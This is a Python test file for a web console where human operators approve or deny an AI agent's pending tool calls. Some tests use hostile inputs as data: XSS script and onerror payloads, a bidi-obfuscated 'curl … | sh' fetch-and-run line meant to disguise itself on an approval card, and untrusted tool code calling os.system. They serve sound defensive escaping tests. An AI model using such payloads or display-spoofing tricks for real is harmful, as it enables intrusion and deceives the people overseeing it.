"""What the operator sees and does in the console: the inbox, runs with their children, a run's decisions and
events, live updates from decisions made elsewhere, and decisions that resolve exactly what was shown."""

from __future__ import annotations

import html
import json
import os
import pwd
import threading
import time

from console_helpers import pending


class Frames:
    """Server-sent events read from one streamed response."""

    def __init__(self, response):
        self.lines = response.iter_lines()

    def until(self, done, timeout: float = 15.0) -> list[tuple[str, dict]]:
        """Read until `done(kind, data)` holds; returns every (kind, data) read."""
        seen, kind, deadline = [], None, time.monotonic() + timeout
        for line in self.lines:
            if line.startswith("event: "):
                kind = line[7:]
            elif line.startswith("data: "):
                seen.append((kind, json.loads(line[6:])))
                if done(kind, seen[-1][1]):
                    return seen
            assert time.monotonic() < deadline, f"no such frame; saw {[k for k, _ in seen]}"
        raise AssertionError("the stream ended")


def _engine():
    from sentinel.local.engine import LocalEngine

    return LocalEngine()


def test_the_inbox_shows_each_pending_call_with_its_run_and_digest(paused, console):
    (run_id, approval_id), = paused()
    session = console().signed_in()
    page = session.get("/", headers={"accept": "text/html"}).text
    approval = pending()[0]
    for shown in (approval_id, run_id, "bash", "echo ran &gt;&gt; ran.txt", "write that it ran to ran.txt",
                  f'data-digest="{approval["digest"]}"', html.escape(approval["reason"])):
        assert shown in page, shown


def test_an_approval_card_says_which_user_the_call_runs_as_and_in_which_workspace(paused, console, sentinel_home):
    (run_id, _), = paused()
    session = console().signed_in()
    user = pwd.getpwuid(os.getuid()).pw_name  # local mode: the call runs as whoever runs sentinel
    where = f'runs as <b class="user">{user}</b> in <code class="workspace">{sentinel_home / "workspace"}</code>'
    assert where in session.get("/", headers={"accept": "text/html"}).text
    assert where in session.get(f"/runs/{run_id}", headers={"accept": "text/html"}).text


def test_runs_list_children_under_their_parent_and_filter_by_status(paused, console, sentinel_home):
    (parent, _), = paused(task="plan the work")
    engine = _engine()
    child = engine.start("do one part", workspace=sentinel_home / "workspace", parent_id=parent)
    engine.close()
    other = engine = _engine()
    done = other.start("write ran.txt", workspace=sentinel_home / "workspace")
    other.approve(done.approval_id)
    other.close()
    session = console().signed_in()
    rows = session.get("/runs/table").text
    order = [rid for rid in (done.id, parent, child.id) if rid in rows]
    assert order == [done.id, parent, child.id]
    assert rows.index(parent) < rows.index(child.id) and 'class="depth-1' in rows
    waiting = session.get("/runs/table?status=done").text
    assert done.id in waiting and parent not in waiting
    card = session.get("/", headers={"accept": "text/html"}).text
    assert 'parent chain:' in card and f"/runs/{parent}" in card  # the child's approval names its parent
    run_page = session.get(f"/runs/{parent}").text
    assert "Child runs" in run_page and child.id in run_page


def test_a_run_page_shows_decisions_with_every_layer_and_its_events(paused, console):
    (run_id, approval_id), = paused()
    session = console().signed_in()
    page = session.get(f"/runs/{run_id}").text
    assert 'id="decisions"' in page and "needs_approval" in page and "<td>policy" in page
    assert f"paused</b> for approval <code>{approval_id}</code>" in page
    assert "1 tool call(s) · 10 in / 5 out tokens" in page  # each model call's tokens, as the CLI shows them
    assert page.count('class="ev ev-') >= 5 and approval_id in page
    assert 'data-after="' in page


def test_new_approvals_and_decisions_made_elsewhere_reach_an_open_page_live(paused, console):
    paused(0)
    session = console().signed_in()
    with session.http.stream("GET", session.console.base + "/stream") as stream:
        frames = Frames(stream)
        frames.until(lambda k, d: k == "pending" and d["ids"] == [])
        started: list = []
        threading.Thread(target=lambda: started.extend(paused())).start()
        card = next(d for k, d in frames.until(lambda k, d: k == "pending" and d["ids"]) if k == "approval")
        assert "bash" in card["html"] and 'data-digest="' in card["html"]
        approval_id = card["id"]
        engine = _engine()  # the CLI's engine: a decision made outside the console
        engine.deny(approval_id, reason="no")
        engine.close()
        frames.until(lambda k, d: k == "pending" and approval_id not in d["ids"])


def test_approving_streams_the_run_to_its_end_and_the_run_ran_once(paused, console, sentinel_home):
    (run_id, approval_id), = paused()
    c = console()
    session = c.signed_in()
    page = session.get(f"/runs/{run_id}").text
    after = int(page.split('data-after="')[1].split('"')[0])
    with session.http.stream("GET", f"{c.base}/stream?run={run_id}&after={after}") as stream:
        reader = Frames(stream)
        reader.until(lambda k, d: k == "status")
        answer = session.decide(approval_id, digest=pending()[0]["digest"])
        assert answer.status_code == 200 and answer.json()["decision"] == "approved"
        frames = reader.until(lambda k, d: k == "event" and d["type"] == "done")
    kinds = [d["type"] for k, d in frames if k == "event"]
    assert kinds[0] in ("resumed", "resolved") and "tool_call_end" in kinds and min(
        d["seq"] for k, d in frames if k == "event") > after
    assert (sentinel_home / "workspace" / "ran.txt").read_text() == "ran\n"
    again = session.decide(approval_id, digest=pending()[0]["digest"] if pending() else "0" * 64)
    assert again.status_code == 409


def test_a_denial_tells_the_agent_the_reason(paused, console):
    (run_id, approval_id), = paused()
    session = console().signed_in()
    answer = session.decide(approval_id, "deny", digest=pending()[0]["digest"], reason="use the staging box")
    assert answer.status_code == 200 and answer.json()["decision"] == "denied"
    engine = _engine()
    deadline = time.monotonic() + 20
    while (shown := engine.show(run_id)).status != "failed" and time.monotonic() < deadline:
        time.sleep(0.1)
    engine.close()
    assert [m["content"] for m in shown.messages if m["role"] == "tool"] == [
        "Denied by the operator: use the staging box"]
    assert shown.status == "failed" and "denied" in shown.error  # its only call denied: the task was not done
    assert shown.decisions[0]["approval"]["approved"] is False


def test_what_the_agent_wrote_is_shown_as_text(scripted_server, configure, sentinel_home, console):
    evil = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    configure(server=scripted_server([{"tool_calls": [{"name": "bash", "arguments": {"command": evil}}]}, evil]))
    engine = _engine()
    engine.start(f"task {evil}", workspace=sentinel_home)
    engine.close()
    session = console().signed_in()
    for path in ("/", "/runs"):
        text = session.get(path).text
        assert "<script>alert" not in text and "<img src=x" not in text and "&lt;script&gt;" in text


def test_control_and_bidi_characters_the_agent_wrote_are_shown_as_escapes(scripted_server, configure, sentinel_home,
                                                                          console):
    """HTML escaping leaves ESC, CR and bidi overrides as they are: every page shows them as escapes, so an
    approval card cannot reorder `curl … | sh` into something else; the JSON of the API keeps the data."""
    evil = "echo safe \u202e hs.x/elpmaxe.live s- lruc\u202c \x1b[2K\r ls \u2066x\u2069"
    configure(server=scripted_server([{"tool_calls": [{"name": "bash", "arguments": {"command": evil}}]}, "ok"]))
    engine = _engine()
    outcome = engine.start("tidy \u202eup", workspace=sentinel_home)
    engine.close()
    session = console().signed_in()
    for path in ("/", "/runs", f"/runs/{outcome.id}"):
        text = session.get(path).text
        assert not any(ch in text for ch in ("\u202e", "\u202c", "\u2066", "\x1b", "\r")), path
    card = session.get("/").text
    assert html.escape(r"echo safe \u202e hs.x/elpmaxe.live s- lruc\u202c \x1b[2K\r ls \u2066x\u2069") in card


def test_ordinary_unicode_and_newlines_stay_as_written():
    from sentinel.web.render import Templates

    page = Templates().render("_call.html", a={"tool": "bash", "arguments": {"command": "echo 'café ✓'\nls"},
                                               "reason": "needs approval", "created_at": 0, "code": None,
                                               "code_sha256": None})
    assert "café ✓" in page and "\\n" not in page


def test_an_untrusted_tools_code_and_hash_are_on_its_card():
    from sentinel.web.render import Templates

    approval = {"id": "a-1", "run_id": "r-1", "tool": "fetch_rates", "arguments": {"currency": "EUR"},
                "reason": "untrusted tool code", "digest": "d" * 64, "created_at": 0.0, "run": {"id": "r-1"},
                "chain": [], "code": {"tool.py": "import os\nos.system('<rm>')\n"}, "code_sha256": "c" * 64}
    card = Templates().render("_approval.html", prefix="/s/p", a=approval)
    assert "c" * 64 in card and "tool.py" in card and "os.system(&#39;&lt;rm&gt;&#39;)" in card
    del approval["code"], approval["code_sha256"]
    assert "untrusted tool" not in Templates().render("_approval.html", prefix="/s/p", a=approval).split("</header>")[1]


def test_watcher_firings_and_the_inbox_render_when_the_engine_offers_them():
    from sentinel.engine.rows import FiringRow, InboxRow
    from sentinel.web.render import Templates

    base = {"prefix": "/s/p", "csrf": "t", "operator": "op", "mode": "local", "pending_count": 0, "poll_error": None}
    none = Templates().render("watchers.html", firings=None, inbox=None, **base)
    assert "no watchers yet" in none
    firing = FiringRow(id="f-1", watcher="rates", dedupe_key="k", run_id=None, status="notified", fired_at=1.0,
                       deadline=2.0, fallback=False, envelope={}, escalation=None, outcome=None, resolved_at=3.0)
    note = InboxRow(id=1, t=3.0, firing_id="f-1", watcher="rates", kind="notify", message="EUR < 1.05")
    page = Templates().render("watchers.html", firings=[firing], inbox=[note], **base)
    assert "rates" in page and "notified" in page and "EUR &lt; 1.05" in page


def test_sentinel_web_reports_a_busy_port_in_one_line(cli):
    import socket

    taken = socket.socket()
    taken.bind(("127.0.0.1", 0))
    taken.listen(1)
    try:
        proc = cli("web", "--port", str(taken.getsockname()[1]), timeout=30)
    finally:
        taken.close()
    assert proc.returncode == 1 and proc.stderr.startswith("error: web console: cannot listen on 127.0.0.1:")
    assert "Traceback" not in proc.stderr and proc.stdout == ""


def test_a_bad_web_section_in_config_is_one_line(configure, cli):
    configure({"web": {"port": "eighty"}})
    proc = cli("web", timeout=30)
    assert proc.returncode == 2 and "config.yaml: web.port" in proc.stderr and "Traceback" not in proc.stderr


def test_a_decision_is_answered_while_the_approved_call_still_runs(scripted_server, configure, sentinel_home, console):
    """Deciding only records the decision: the answer comes while the approved command still blocks, and the run
    goes on to its end on the engine's own runner after the request is long answered."""
    from sentinel.local.engine import LocalEngine

    workspace = sentinel_home / "workspace"
    workspace.mkdir(exist_ok=True)
    command = "until [ -e release ]; do sleep 0.05; done; echo ran >> ran.txt"
    configure(server=scripted_server([{"tool_calls": [{"name": "bash", "arguments": {"command": command}}]},
                                      "All done."]))
    with LocalEngine() as engine:
        paused = engine.start("write ran.txt once released", workspace=workspace)
    assert paused.status == "waiting_approval"
    session = console().signed_in()
    answer = session.decide(paused.approval_id, digest=pending()[0]["digest"])
    assert answer.status_code == 200 and answer.json()["status"] == "running"
    assert not (workspace / "ran.txt").exists()  # the approved call has not finished: the answer did not wait
    (workspace / "release").touch()
    deadline = time.monotonic() + 30
    with LocalEngine() as engine:
        while (shown := engine.show(paused.id)).status != "done":
            assert time.monotonic() < deadline, shown.status
            time.sleep(0.1)
    assert (workspace / "ran.txt").read_text() == "ran\n" and shown.output == "All done."


def test_a_decision_is_answered_at_once_while_another_process_holds_the_run(paused, console, sentinel_home):
    """A decision never waits on the run: while another process executes it (a chat asking about this
    approval), the console still answers at once, and the run resumes once that process lets go."""
    from sentinel.engine.run import Run

    (run_id, approval_id), = paused()
    session = console().signed_in()
    digest = pending()[0]["digest"]
    with Run.open(sentinel_home / "runs" / run_id):  # the lease another process would hold
        started = time.monotonic()
        answer = session.decide(approval_id, digest=digest)
        assert answer.status_code == 200 and answer.json()["decision"] == "approved"
        assert time.monotonic() - started < 5
    from sentinel.errors import Busy

    engine, deadline = _engine(), time.monotonic() + 30
    try:
        while True:  # the console's runner may have taken it up as the lease was let go: then it ends there
            try:
                outcome = engine.resume(run_id)
                break
            except Busy:
                assert time.monotonic() < deadline
                time.sleep(0.1)
    finally:
        engine.close()
    assert outcome.status == "done" and (sentinel_home / "workspace" / "ran.txt").read_text() == "ran\n"
